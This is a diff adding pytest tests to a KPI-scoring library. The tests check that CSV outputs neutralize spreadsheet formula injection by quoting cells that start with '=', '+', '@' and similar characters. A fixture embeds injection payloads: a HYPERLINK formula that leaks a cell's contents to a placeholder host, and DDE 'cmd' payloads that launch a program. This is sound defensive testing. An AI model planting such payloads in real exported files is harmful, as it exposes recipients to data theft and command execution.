@@ -7,11 +7,18 @@ killed ``kpi report``, several processes at once.
 
 from __future__ import annotations
 
+import csv
+import shutil
+
+import pandas as pd
 import pytest
 
+import kpilib
+from kpilib.cli import main
 from kpilib.engine.formula import Formula, FormulaError
 from kpilib.engine.plan import load_plan
 from kpilib.errors import PlanError
+from kpilib.sheets.workbooks import defuse
 from tests.conftest import ROOT
 
 PLAN_TEXT = """\
@@ -165,3 +172,54 @@ def test_a_source_template_names_only_month(tmp_path, template):
 def test_the_month_template_still_works(tmp_path):
     plan = load_plan(write_plan(tmp_path, actuals="actuals/{month}.csv"))
     assert plan.source("actuals", "2024-11") == (tmp_path / "actuals/2024-11.csv").resolve()
+
+
+# --- group 10: CSV cells a spreadsheet would run are neutralized -------------------------
+
+HOSTILE_NAMES = {
+    "方磊": '=HYPERLINK("http://example.invalid/?x="&A1,"点我")',
+    "冯雪": "+cmd|' /C calc'!A0",
+    "彭丽": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def ecommerce_project(tmp_path, rename=None):
+    """A copy of the ecommerce plan and its data, people renamed by ``rename``."""
+    (tmp_path / "params").mkdir()
+    shutil.copy(ROOT / "params/ecommerce.yaml", tmp_path / "params")
+    shutil.copytree(ROOT / "data/ecommerce", tmp_path / "data/ecommerce")
+    for path in (tmp_path / "data/ecommerce").rglob("*.path"):
+        table = pd.read_csv(path, dtype=str, encoding="utf-8-sig", keep_default_na=False)
+        table["姓名"] = table["姓名"].replace(rename or {})
+        table.to_csv(path, index=False, encoding="utf-8")
+    return tmp_path / "params/ecommerce.yaml"
+
+
+def test_formula_like_names_in_csv_outputs_are_quoted(tmp_path, capsys):
+    names = pd.read_csv(ROOT / "data/ecommerce/targets.csv", encoding="utf-8-sig")["姓名"]
+    assert set(HOSTILE_NAMES) <= set(names)
+    plan = ecommerce_project(tmp_path, HOSTILE_NAMES)
+    out = tmp_path / "out"
+    assert main(["score", str(plan), "--month", "2024-11", "--out", str(out), "--no-store"]) == 0
+    clean = kpilib.score_month(ROOT / "params/ecommerce.yaml", "2024-11").people
+    for name in ("people.csv", "items.csv"):
+        with open(out / name, encoding="utf-8-sig", newline="") as handle:
+            rows = list(csv.reader(handle))
+        first_cells = {row[0] for row in rows[1:]}
+        for hostile in HOSTILE_NAMES.values():
+            assert hostile not in first_cells and f"'{hostile}" in first_cells
+        assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
+    people = pd.read_csv(out / "people.csv", encoding="utf-8-sig")
+    # scores are unchanged: the quote is on text cells only
+    assert people["total"].tolist() == pytest.approx(clean["total"].tolist())
+
+
+def test_negative_numbers_are_not_quoted_but_formula_text_is():
+    table = pd.DataFrame(
+        {"reason": ["-3", "-12.5%", "-x", "=1+1", "\tA", "正常", None], "points": [-3.5] * 7}
+    )
+    out = defuse(table)
+    assert out["reason"][:6].tolist() == ["-3", "-12.5%", "'-x", "'=1+1", "'\tA", "正常"]
+    assert pd.isna(out["reason"][6])
+    assert out["points"].tolist() == [-3.5] * 7
+    assert table["reason"][3] == "=1+1"  # the input is not changed
